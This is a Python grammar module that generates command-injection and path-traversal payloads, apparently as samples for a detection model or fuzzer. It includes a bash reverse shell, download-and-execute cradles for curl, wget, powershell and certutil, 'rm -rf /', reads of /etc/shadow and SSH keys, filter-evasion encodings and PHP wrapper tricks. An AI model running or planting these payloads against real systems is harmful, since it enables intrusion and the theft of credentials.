"""What is put into a value to reach the shell or the files of the machine behind it."""

from __future__ import annotations

import random

from models.packs.access.grammar import DIGITS, LOWER, Part, text_of

COMMAND: dict[str, Part] = {
    "command": (
        *("«start»«separator»«blank»«run»",) * 4,
        *("«start»«separator»«blank»«run»«blank»«separator»",) * 3,
        *("«start»«substituted»",) * 2,
        *("«quote»«separator»«run»«separator»«quote»",) * 2,
        "«quote»«blank»«separator»«blank»«run»«blank»#",
        *("«start»«separator»«blank»«canary»", "«start»«separator»«blank»«canary»«separator»"),
        *("«start»)«separator»«canary»", "«start»)«separator»«run»"),
        "«separator»«blank»«run»«separator»",
        "«substituted»",
        "«path»«separator»",
        "/«word»«separator»«run»«separator»",
        "«path»«gap»«argument»",
        "«name» «file»",
        "() { :;}; «run»",
        "() { «word»;}; echo; «run»",
        "«start»%0a«run»",
        "«start»\n«run»\n",
        "«start»{«word»,«run»}",
        "«start»«separator»{«name»,«argument»}",
        "«start»^&^«run»",
        "«interpreter»",
        "«start»«separator»«interpreter»",
    ),
    "canary": ("id", "id", "ls", "pwd", "whoami", "dir", "uname", "«path»"),
    "start": (
        *("", "", "«word»", "a", "1", "«number»", "«word».txt", "127.0.0.1", "«word».example.com"),
    ),
    "separator": (*(";", "|", "&", "||", "&&") * 3, "%0a", "\n", "%26", "`", "%7c", ";|", "|&"),
    "blank": ("", "", " ", " ", "+", "\t", "${ifs}", "$ifs$9", "%20", "%09"),
    "quote": ("'", '"', "", "`"),
    "substituted": (
        *("`«run»`", "$(«run»)", '"`«run»`"', "'`«run»`'", '"$(«run»)"', "<(«run»)", "«name»`id`"),
    ),
    "run": (
        *("«path»",) * 2,
        *("«path»«gap»«argument»",) * 3,
        *("«name»",) * 2,
        *("«name»«gap»«argument»",) * 4,
        "«windows»",
        "«windows»",
        "«run»«separator»«run»",
        "«run» > «file»",
        "«run» 2>&1",
        "«run» | «name»",
    ),
    "gap": (" ", " ", " ", " ", "+", "${ifs}", "\t", "%20"),
    "path": (
        *("/bin/«name»", "/usr/bin/«name»", "/usr/local/bin/«name»", "/«wild»/«name»"),
        "/sbin/«name»",
    ),
    "wild": ("b?n", "???", "bi*", "usr/b[i]n", "usr/local/bin"),
    "name": (
        *("id", "id", "id", "whoami", "ls", "cat", "uname", "sleep", "ping", "wget", "curl", "nc"),
        *("netstat", "ps", "env", "echo", "pwd", "ifconfig", "nslookup", "dig", "hostname"),
        *("touch", "rm", "chmod", "bash", "sh", "python", "perl", "php", "telnet", "kill"),
        *("reboot", "w", "c'a't", "c\\at", "who$@ami", 'l"s"', "base64", "head", "more", "tail"),
        *("mail", "true", "false", "busybox", "tftp", "nohup", "xterm", "find", "grep", "awk"),
        *("printenv", "set", "which"),
    ),
    "argument": (
        *("-a", "-la", "-an", "«file»", "«file»", "«digit»", "«number»", "-c «digit» «host»"),
        *("-c«digit» 127.0.0.1", "-n «number» 127.0.0.1", "http://«host»/«word»"),
        *("-o- http://«host»", "http://«host»/«word».sh -o /tmp/«word»"),
        *("-e /bin/sh «host» «number»", "aux", "-rf /", "http://«host»/«word».sh|sh"),
        *("-c «quote»«name»«quote»", "«word»", "777 /tmp/«word»", "«host»"),
        *("$((«number»+«number»))", "-f /tmp/«word»", "«word».«host»", "-d «word» http://«host»"),
        *("-l /bin", "/tmp;wget http://«host»/«word»;chmod 777 «word»;./«word»", "$path", "-"),
    ),
    "file": (
        *("/etc/passwd", "/etc/passwd", "/etc/shadow", "/etc/hosts", "/tmp/«word»"),
        *("/proc/version", "index.php", "../«word».php", "/var/log/«word»", "/etc/issue"),
        *("/dev/null", "*", "~/.ssh/id_rsa"),
    ),
    "windows": (
        *("dir", "dir c:", "dir /s c:\\users", "type c:\\boot.ini", "type %systemroot%\\win.ini"),
        *("ver", "ipconfig /all", "net user", "net user «word» «word» /add", "systeminfo"),
        *("tasklist", "set", "cmd.exe /c «name»", "cmd /c «name» «argument»"),
        *("ping -n «number» «host»", "net localgroup", "powershell -enc «word»"),
        "powershell iex(new-object net.webclient).downloadstring('http://«host»')",
        *("certutil -urlcache -f http://«host»/«word».exe", "whoami /priv", "%comspec% /c «name»"),
        *("c:\\windows\\system32\\cmd.exe", "start «word».exe", "echo %username%"),
    ),
    "interpreter": (
        *("system('«run»')", "exec('«run»')", "passthru('«run»')", "shell_exec('«run»')"),
        *("popen('«run»')", "python -c 'import os;os.system(\"«name»\")'"),
        *("perl -e 'system(\"«name»\")'", "os.system('«run»')", "php -r 'system(\"«run»\");'"),
        *("ruby -e 'exec \"«name»\"'", "bash -i >& /dev/tcp/«host»/«number» 0>&1"),
        *("bash -c '«run»'", "sh -c «run»", "echo «word»|base64 -d|sh", "eval(«run»)"),
        "awk 'begin{system(\"id\")}'",
    ),
    "host": ("198.51.100.7", "127.0.0.1", "203.0.113.«digit»", "«word».example.com", "localhost"),
    "number": text_of(DIGITS, 1, 4),
    "digit": tuple(DIGITS),
    "letter": tuple(LOWER),
    "word": text_of(LOWER, 2, 6),
}

TRAVERSAL: dict[str, Part] = {
    "traversal": (
        *("«root»«climb»«target»",) * 6,
        *("«root»«climb»«target»«ending»",) * 2,
        *("«root»«climb»",) * 2,
        *("«word»/«climb»«target»", "«word».«word»/«climb»«target»"),
        *("«word».php%00", "«word».«word»\x00", "/«word»%00.«word»"),
        *("«absolute»", "«absolute»", "«absolute»«ending»"),
        *("«wrapper»", "«wrapper»"),
        *("file://«absolute»", "file:«absolute»"),
    ),
    "root": ("", "", "", "/", "/", "//", "./", "\\", "/./", "/«word»/", "///", ".", "/var/www/"),
    "climb": lambda chance: _climb(chance),
    "target": (
        *("etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue"),
        *("etc/my.cnf", "proc/self/environ", "proc/version", "proc/self/cmdline"),
        *("var/log/apache2/access.log", "windows/win.ini", "windows\\win.ini", "winnt/win.ini"),
        *("boot.ini", "windows/system32/cmd.exe", "windows/system32/drivers/etc/hosts"),
        *("web-inf/web.xml", "meta-inf/manifest.mf", "autoexec.bat", "inetpub/wwwroot/global.asa"),
        *("inetpub/wwwroot/web.config", "root/.ssh/id_rsa", "etc/apache2/apache2.conf"),
        *("wp-config.php", "config.php", "«word».php", "«word»/«word».txt", "«word»"),
        *("usr/local/«word»/«word».conf", "etc%2fpasswd", "etc\\passwd", "var/www/«word»"),
        *("home/«word»/.bash_history", "boot/grub/grub.cfg"),
    ),
    "absolute": (
        *("/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ"),
        *("/proc/self/fd/«digit»", "«drive»boot.ini", "«drive»windows/win.ini"),
        *("«drive»winnt\\win.ini", "«drive»inetpub/wwwroot/«word».asa", "/var/log/«word».log"),
        *("/etc/apache2/sites-enabled/«word»", "/usr/local/apache/logs/error_log"),
        *("web-inf/web.xml", "\\\\«word».example.com\\c$\\«word»", "/root/.bash_history"),
        "/etc/./passwd",
    ),
    "drive": ("c:/", "c:\\", "d:/", "c:", "c:\\\\", "/c:/", "c|/"),
    "ending": (
        *("%00", "%00.html", "%00.jpg", "%2500", "?", ".html", "%00.php", "/.", "#", "&", "\x00"),
        ";",
    ),
    "wrapper": (
        "php://filter/convert.base64-encode/resource=«word».php",
        "php://filter/read=string.rot13/resource=«word»",
        "php://input",
        "php://filter/zlib.deflate/resource=«target»",
        "expect://«word»",
        "data://text/plain;base64,«word»",
        "data:text/plain,<?php «word»(); ?>",
        "zip://«word».jpg%23«word».php",
        "phar://«word»/«word».phar",
        "glob:///«word»/*",
        "compress.zlib://«target»",
        "http://198.51.100.7/«word».txt?",
        "ftp://198.51.100.7/«word».php",
        "\\\\198.51.100.7\\«word»\\«word».php",
        "-d allow_url_include=on -d auto_prepend_file=php://input",
    ),
    "digit": tuple(DIGITS),
    "word": text_of(LOWER, 2, 7),
}

_CLIMBS = (
    *("../", "../", "../", "../", "..\\", "..\\", "..//", "....//", "..../", "...//", "./../"),
    *("..\\/", "..;/", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "..%252f"),
    *("..%c0%af", "%c0%ae%c0%ae/", "..%c1%9c", "..%u2215", "..%uf025", "0x2e0x2e/", "..0x2f"),
    *("0x2e0x2e0x2f", ".../", "/..", "\\..", "..%00/", "..%ef%bc%8f", ".%2e/", "..%255c", "..0x5c"),
    *("%%32%65%%32%65/", "/%2e%2e", "..././", "...\\.\\", "..^/", "..\\\\", "..|/"),
)
_LONG_CLIMBS = ("/./", "//", ".//", "/.", "..", "\\", "./")
"""Nothing that means harm unless it goes on and on."""


def _climb(chance: random.Random) -> str:
    """A way up, written one way from the bottom to the top."""
    if chance.random() < 0.08:
        return chance.choice(_LONG_CLIMBS) * chance.choice((5, 8, 16, 40))
    return chance.choice(_CLIMBS) * chance.choice((2, 2, 3, 3, 4, 5, 6, 7, 8, 10, 12, 16))
